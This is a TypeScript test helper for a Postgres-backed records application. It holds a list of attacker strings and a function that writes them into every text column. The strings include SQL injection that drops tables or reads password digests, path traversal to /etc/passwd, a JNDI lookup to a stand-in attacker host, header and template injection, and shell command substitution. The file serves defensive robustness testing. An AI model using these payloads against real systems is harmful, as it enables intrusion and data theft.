// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are not meant to be templates
import type { Pool } from 'pg'

/** Texts of attackers, typed into an address or a field to be run, followed or parsed. */
export const hostileTexts = [
  "'; drop table patients; --",
  "' or '1'='1",
  "1' union select password_digest from users --",
  '1; select pg_sleep(30) --',
  "$1 $$ \\' %s %d ::regclass",
  'name desc; delete from audit_log',
  '%_%\\',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%252e%252e%252f',
  'a/b//c',
  '%2F%2Fevil.example.com',
  '//evil.example.com/%0d%0aSet-Cookie:a=b',
  'a\r\nX-Header: b',
  'file:///etc/passwd',
  'http://127.0.0.1:5432/',
  '${jndi:ldap://evil.example.com/a}',
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  'NaN',
  '-1',
  '99999999999999999999999',
  '1e308',
  '0x10',
  '\u202etxt.exe',
  '\ufeff',
  '😀'.repeat(200),
  'x'.repeat(5_000),
  '('.repeat(500),
  '$(touch /tmp/never)',
  '`id`',
  '| cat /etc/passwd',
]

// Columns that nobody types into and without which a page could not be read: kinds, authors and places of records.
const notTyped =
  /(^|_)(status|kind|type|state|token|digest|hash|hashid|key|uuid|id|sha256|color|time_zone|slug|secret|driver|source|origin|format|encoding|delimiter|checksum|classification|gateway|category|level|code|codes|orientation|side|zone|currency|unit|period|stage|role|relationship|gender|vocabulary|word|words|sealed|path|content_type|version|npi_type|view|identifier|number|phone|from|to|action|entity_type|scope|reason|locale|country|mode|channel|result|outcome|place|tooth|teeth|arch|quadrant|surface|day|dob|ssn|npi|taxonomy|fingerprint|last4)$/

const notFilled = [
  'schema_migrations',
  'taxonomies',
  'sessions',
  'rate_limits',
  'audit_log',
  'live_events',
  'idempotency_keys',
  'patient_words',
  'name_vocabulary',
  'drafts',
]

/** Writes a text into every typed column of every record; returns which ones, as table.column. */
export async function fillTexts(owner: Pool, texts: string[], first = 0): Promise<string[]> {
  const { rows } = await owner.query<{ table: string; column: string }>(
    `select c.table_name as table, c.column_name as column from information_schema.columns c
     join information_schema.tables t using (table_schema, table_name)
     where table_schema = 'public' and t.table_type = 'BASE TABLE' and c.data_type in ('text', 'character varying')
       and c.is_generated = 'NEVER'`,
  )
  const filled: string[] = []
  for (const { table, column } of rows) {
    if (notTyped.test(column) || notFilled.includes(table) || table.startsWith('sandbox_')) continue
    if (column === 'email' && table === 'users') continue
    // Each row gets another text, and no two the same if they must be unique.
    const done = await owner
      .query(
        `update ${table} t set ${column} = ($1::text[])[1 + (n.place + $2) % array_length($1::text[], 1)] || ' ' || n.place
         from (select ctid as row, row_number() over (order by ctid) as place from ${table}) n
         where t.ctid = n.row and t.${column} is not null`,
        [texts, first],
      )
      .catch(() => undefined)
    if (done !== undefined && (done.rowCount ?? 0) > 0) filled.push(`${table}.${column}`)
  }
  return filled
}
